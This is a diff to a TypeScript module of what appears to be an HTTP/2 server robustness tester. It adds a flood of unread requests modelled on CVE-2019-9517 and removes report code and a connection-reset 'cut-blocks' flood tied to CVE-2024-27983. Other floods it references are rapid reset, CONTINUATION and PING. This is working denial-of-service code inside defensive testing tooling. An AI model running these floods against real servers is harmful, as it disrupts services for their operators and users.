@@ -10,7 +10,7 @@
  */
 import type net from 'node:net';
 import type { H2Flood, H2FloodAttack, H2FloodFacts } from '../../cases/robustness/attack-types.js';
-import { encodeH2Frame, H2_PREFACE, H2Flag, H2Frame, H2FrameReader, h2ErrorName, hpackBlock, hpackLiteral, parseSettings } from '../../protocol/h2-frames.js';
+import { encodeH2Frame, H2_PREFACE, H2Flag, H2Frame, H2FrameReader, hpackBlock, hpackLiteral, parseSettings } from '../../protocol/h2-frames.js';
 import { connectionQueues } from '../../util/kernel-queues.js';
 import { probeFields } from '../h2-probe.js';
 import { connectTo, targetHostPort } from '../play-case.js';
@@ -29,6 +29,12 @@ const END_READ_MS = 200;
 const ENABLE_CONNECT_PROTOCOL = 0x8;
 /** RST_STREAM's CANCEL (RFC 9113 §7). */
 const CANCEL = Buffer.from([0, 0, 0, 8]);
+/** The largest flow-control window (RFC 9113 §6.9.1), and the connection's initial one. */
+const MAX_WINDOW = 0x7fffffff;
+const INITIAL_WINDOW = 65_535;
+/** How long wsgate reads on after the requests flood, for the answers: until the server sends nothing for this long, or DRAIN_MAX_MS pass. */
+const DRAIN_QUIET_MS = 300;
+const DRAIN_MAX_MS = 10_000;
 
 /** The flood's frames: what goes ahead of the units, and unit i. */
 interface FloodFrames {
@@ -38,8 +44,8 @@ interface FloodFrames {
   streamOf: (i: number) => number;
 }
 
-/** The frames of each flood; `fields` are an extended CONNECT's (RFC 8441 §4). */
-function floodFrames(flood: H2Flood, fields: Buffer): FloodFrames {
+/** The frames of each flood; `fields` are an extended CONNECT's (RFC 8441 §4), `request` a GET's. */
+function floodFrames(flood: H2Flood, fields: Buffer, request: Buffer): FloodFrames {
   if (flood === 'rapid-reset') {
     // CVE-2023-44487: a stream opened (HEADERS, END_HEADERS) and cancelled at once, on odd ids 1, 3, 5, …
     const streamOf = (i: number): number => 2 * i + 1;
@@ -58,6 +64,25 @@ function floodFrames(flood: H2Flood, fields: Buffer): FloodFrames {
       streamOf: () => 1,
     };
   }
+  if (flood === 'requests') {
+    // CVE-2019-9517: every window opened, so that only TCP holds the answers back, and no HPACK table
+    // for the server's answers, so that each carries its fields whole and the kernel's buffers fill
+    // sooner; then complete requests (HEADERS, END_STREAM and END_HEADERS) on odd ids 1, 3, 5, ...,
+    // whose answers wsgate never reads.
+    const settings = Buffer.alloc(12);
+    settings.writeUInt16BE(0x4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
+    settings.writeUInt32BE(MAX_WINDOW, 2);
+    settings.writeUInt16BE(0x1, 6); // SETTINGS_HEADER_TABLE_SIZE
+    settings.writeUInt32BE(0, 8);
+    const increment = Buffer.alloc(4);
+    increment.writeUInt32BE(MAX_WINDOW - INITIAL_WINDOW);
+    const streamOf = (i: number): number => 2 * i + 1;
+    return {
+      head: Buffer.concat([encodeH2Frame(H2Frame.Settings, 0, 0, settings), encodeH2Frame(H2Frame.WindowUpdate, 0, 0, increment)]),
+      unit: (i) => encodeH2Frame(H2Frame.Headers, H2Flag.EndHeaders | H2Flag.EndStream, streamOf(i), request),
+      streamOf,
+    };
+  }
   const ping = Buffer.alloc(8);
   return {
     head: Buffer.alloc(0),
@@ -70,15 +95,22 @@ function floodFrames(flood: H2Flood, fields: Buffer): FloodFrames {
 }
 
 /** A flood's facts: nothing written, read or seen, but `over`. */
-function factsOf(attack: H2FloodAttack, over: Partial<H2FloodFacts> & { unitBytes: number }): H2FloodFacts {
+export function factsOf(attack: H2FloodAttack, over: Partial<H2FloodFacts> & { unitBytes: number }): H2FloodFacts {
   const zero = { unitsWritten: 0, headBytes: 0, lastStreamId: 0, resetsIn: 0, responsesIn: 0, writingMs: 0 };
-  return { flood: attack.flood, units: attack.units, refused: null, unitsRead: null, end: null, ending: 'open', ...zero, ...over };
+  return { flood: attack.flood, units: attack.units, refused: null, unitsRead: null, end: null, ending: 'open', answers: null, ...zero, ...over };
 }
 
 /** The flood played against the server; never rejects. */
 export function runH2Flood(target: ServerTarget, attack: H2FloodAttack, graceMs: number, signal: AbortSignal | undefined): Promise<H2FloodFacts> {
-  const fields = hpackBlock(probeFields(target.tls ? 'https' : 'http', targetHostPort(target), target.resource));
-  const frames = floodFrames(attack.flood, fields);
+  const scheme = target.tls ? 'https' : 'http';
+  const fields = hpackBlock(probeFields(scheme, targetHostPort(target), target.resource));
+  const get: Array<[string, string]> = [
+    [':method', 'GET'],
+    [':scheme', scheme],
+    [':path', target.resource],
+    [':authority', targetHostPort(target)],
+  ];
+  const frames = floodFrames(attack.flood, fields, hpackBlock(get));
   return new Promise((resolve) => {
     let flood: Flood | null = null;
     const refused = (why: string): void => resolve(factsOf(attack, { refused: why, unitBytes: frames.unit(0).length }));
@@ -114,6 +146,9 @@ class Flood {
   /** The server's end seen: wsgate writes no more and reads what the server wrote before it (its GOAWAY). */
   private closing = false;
   private done = false;
+  private resolved = false;
+  /** The requests flood over: what the kernel held then, the answers read since (streams answered by HEADERS or RST_STREAM). */
+  private drain: { kernelBytes: number; bytes: number; inKernel: number; answered: Set<number> } | null = null;
   private readonly unitBytes: number;
 
   constructor(
@@ -145,8 +180,9 @@ class Flood {
     );
     s.on('data', (chunk: Buffer) => {
       if (this.closing && !this.done) this.readOn();
+      if (this.drain !== null) this.drainTimer();
       for (const f of this.reader.push(chunk)) {
-        if (f.type !== H2Frame.Settings || (f.flags & H2Flag.Ack) !== 0) {
+        if (this.drain !== null || f.type !== H2Frame.Settings || (f.flags & H2Flag.Ack) !== 0) {
           this.frame(f, begun);
           continue;
         }
@@ -166,7 +202,7 @@ class Flood {
 
   /** The flood's first write, the server's read measured first (0, or null: its socket is not on this machine); the ping flood reads no more. */
   private begin(): void {
-    if (this.attack.flood === 'ping') this.socket.pause();
+    if (this.attack.flood === 'ping' || this.attack.flood === 'requests') this.socket.pause();
     this.read = this.sample();
     this.startedAt = performance.now();
     this.next();
@@ -174,6 +210,15 @@ class Flood {
 
   /** A frame of the server's besides its SETTINGS; a GOAWAY read after its end of TCP was seen (written just before) joins that end. */
   private frame(f: ReturnType<H2FrameReader['push']>[number], begun: boolean): void {
+    const drain = this.drain;
+    if (drain !== null) {
+      drain.bytes += 9 + f.payload.length;
+      if ((f.type === H2Frame.Headers || f.type === H2Frame.RstStream) && f.streamId % 2 === 1 && !drain.answered.has(f.streamId)) {
+        drain.answered.add(f.streamId);
+        if (drain.bytes <= drain.kernelBytes) drain.inKernel++;
+      }
+      return;
+    }
     if (f.type === H2Frame.Ping && (f.flags & H2Flag.Ack) === 0 && this.attack.flood !== 'ping')
       this.put(encodeH2Frame(H2Frame.Ping, H2Flag.Ack, 0, f.payload));
     else if (f.type === H2Frame.RstStream) this.resetsIn++;
@@ -304,13 +349,48 @@ class Flood {
     this.stop();
   }
 
-  /** The flood is over: the facts, and the connection closed. */
+  /** The flood is over: for the requests flood with the connection open, the answers read first; then the facts, and the connection closed. */
   stop(): void {
-    if (this.done) return;
+    if (this.done) {
+      if (this.drain !== null) this.finish();
+      return;
+    }
     this.done = true;
     clearTimeout(this.timer);
     clearTimeout(this.stallTimer);
+    if (this.attack.flood === 'requests' && !this.closing && this.end === null && !this.socket.destroyed) return this.readAnswers();
+    this.finish();
+  }
+
+  /**
+   * What the kernel holds of the server's answers (its send queue, wsgate's receive queue, and what
+   * Node read ahead), then the connection read until the server sends nothing for DRAIN_QUIET_MS:
+   * the answers that come within those bytes were in the kernel, the others in the server.
+   */
+  private readAnswers(): void {
+    const queues = connectionQueues(this.socket);
+    if (queues === null) return this.finish();
+    const kernelBytes = queues.peerUnacked + queues.ourUnread + this.socket.readableLength;
+    this.drain = { kernelBytes, bytes: 0, inKernel: 0, answered: new Set() };
+    this.socket.once('close', () => this.finish());
+    this.timer = setTimeout(() => this.finish(), DRAIN_MAX_MS);
+    this.drainTimer();
+    this.socket.resume();
+  }
+
+  private drainTimer(): void {
+    clearTimeout(this.stallTimer);
+    this.stallTimer = setTimeout(() => this.finish(), DRAIN_QUIET_MS);
+  }
+
+  /** The facts, once; the connection closed. */
+  private finish(): void {
+    if (this.resolved) return;
+    this.resolved = true;
+    clearTimeout(this.timer);
+    clearTimeout(this.stallTimer);
     this.socket.destroy();
+    const drain = this.drain;
     this.resolve(
       factsOf(this.attack, {
         unitsWritten: this.written,
@@ -323,115 +403,8 @@ class Flood {
         responsesIn: this.responsesIn,
         ending: this.ending,
         writingMs: this.startedAt === null || this.lastAt === null ? 0 : this.lastAt - this.startedAt,
+        answers: drain === null ? null : { kernelBytes: drain.kernelBytes, inKernel: drain.inKernel, read: drain.answered.size },
       }),
     );
   }
 }
-
-/** What each flood's unit is, for the report. */
-const UNIT_WORDS: Readonly<Record<H2Flood, string>> = {
-  'rapid-reset': 'streams opened (HEADERS, an extended CONNECT) and reset (RST_STREAM CANCEL)',
-  continuation: 'CONTINUATION frames of one header block (HEADERS without END_HEADERS on stream 1)',
-  ping: 'PING frames',
-  'cut-blocks': 'connections, each an unfinished header block (HEADERS without END_HEADERS, 20 CONTINUATION frames) cut by a TCP reset',
-};
-
-/** The report's request and response lines of a flood: what wsgate wrote, what the server sent and did. */
-export function floodLines(f: H2FloodFacts): { request: string; response: string } {
-  const n = (v: number): string => v.toLocaleString('en-US');
-  if (f.refused !== null) return { request: 'HTTP/2 preface and SETTINGS', response: f.refused };
-  const request = `HTTP/2 preface and SETTINGS; ${n(f.unitsWritten)} of ${n(f.units)} ${UNIT_WORDS[f.flood]} (${n(f.unitBytes)} bytes each) in ${n(Math.round(f.writingMs))} ms`;
-  const end = f.end;
-  if (f.flood === 'cut-blocks') {
-    const response =
-      end === null
-        ? `every connection accepted (${n(f.unitsWritten)})`
-        : `connection ${n(end.unitsWritten + 1)} failed ${n(Math.round(end.ms))} ms in: the server was gone`;
-    return { request, response };
-  }
-  const goaway = end?.goaway;
-  const ended =
-    end === null
-      ? `the connection still open when wsgate stopped${f.unitsWritten < f.units ? ': the server read no more' : ''}`
-      : `${goaway ? `GOAWAY ${h2ErrorName(goaway.code)}, last stream ${n(goaway.lastStreamId)}` : `TCP ${f.ending === 'reset' ? 'reset' : 'closed'}`} ${n(Math.round(end.ms))} ms into the flood, ${n(end.unitsWritten)} written${end.unitsRead === null ? '' : `, ${n(end.unitsRead)} read by the server`}`;
-  const read =
-    f.unitsRead === null
-      ? 'what the server read not measurable (its socket is not on this machine)'
-      : `${n(f.unitsRead)} units read by the server at the last look`;
-  return { request, response: `${ended}; ${read}; ${n(f.resetsIn)} RST_STREAM and ${n(f.responsesIn)} HEADERS from the server` };
-}
-
-/** How many CONTINUATION frames (of a 100-byte field each) a cut header block carries. */
-const CUT_BLOCK_FRAMES = 20;
-
-/**
- * `cut-blocks`: up to `units` connections one after another, each the preface, SETTINGS, HEADERS
- * without END_HEADERS and CONTINUATION frames in one write, then a TCP reset at once, while the
- * server may still be decoding the block (CVE-2024-27983). The flood ends early when a connection is
- * refused: the server is gone.
- */
-export async function runCutBlocks(target: ServerTarget, attack: H2FloodAttack, signal: AbortSignal | undefined): Promise<H2FloodFacts> {
-  const fields = hpackBlock(probeFields(target.tls ? 'https' : 'http', targetHostPort(target), target.resource));
-  const block = Buffer.concat([
-    H2_PREFACE,
-    encodeH2Frame(H2Frame.Settings, 0, 0),
-    encodeH2Frame(H2Frame.Headers, 0, 1, fields),
-    ...Array.from({ length: CUT_BLOCK_FRAMES }, (_, k) => encodeH2Frame(H2Frame.Continuation, 0, 1, hpackLiteral(`x-cut-${k}`, 'a'.repeat(100)))),
-  ]);
-  const started = performance.now();
-  let written = 0;
-  let end: H2FloodFacts['end'] = null;
-  while (written < attack.units && signal?.aborted !== true) {
-    const why = await cutOne(target, block);
-    if (why !== null) {
-      end = { ms: performance.now() - started, unitsWritten: written, unitsRead: null, goaway: null };
-      break;
-    }
-    written++;
-  }
-  return factsOf(attack, {
-    refused: written === 0 && end !== null ? 'the first connection was refused' : null,
-    unitsWritten: written,
-    unitBytes: block.length,
-    end,
-    ending: end === null ? 'open' : 'reset',
-    writingMs: performance.now() - started,
-  });
-}
-
-/** One connection: the block written, then reset on the next turn of the event loop; null, or why it failed. */
-function cutOne(target: ServerTarget, block: Buffer): Promise<string | null> {
-  return new Promise((resolve) => {
-    let settled = false;
-    const done = (why: string | null): void => {
-      if (settled) return;
-      settled = true;
-      clearTimeout(timer);
-      resolve(why);
-    };
-    // A connection that neither opens nor fails (a TLS handshake left hanging) must not hold the flood.
-    const timer = setTimeout(() => {
-      socket.destroy();
-      done(`no connection within ${CUT_CONNECT_MS / 1000} s`);
-    }, CUT_CONNECT_MS);
-    const socket = connectTo(
-      target,
-      (s) => {
-        s.on('error', () => undefined);
-        s.write(block);
-        setImmediate(() => {
-          // A TLS socket cannot be reset from Node (its handle is TLS's): it is destroyed, a FIN (or a reset when the server's data waits unread).
-          if (target.tls) s.destroy();
-          else s.resetAndDestroy();
-          done(null);
-        });
-      },
-      (why) => done(why),
-    );
-    socket.on('error', () => undefined);
-    socket.once('close', () => done('the connection closed before it opened'));
-  });
-}
-
-/** How long one connection of `cut-blocks` may take to open. */
-const CUT_CONNECT_MS = 5000;
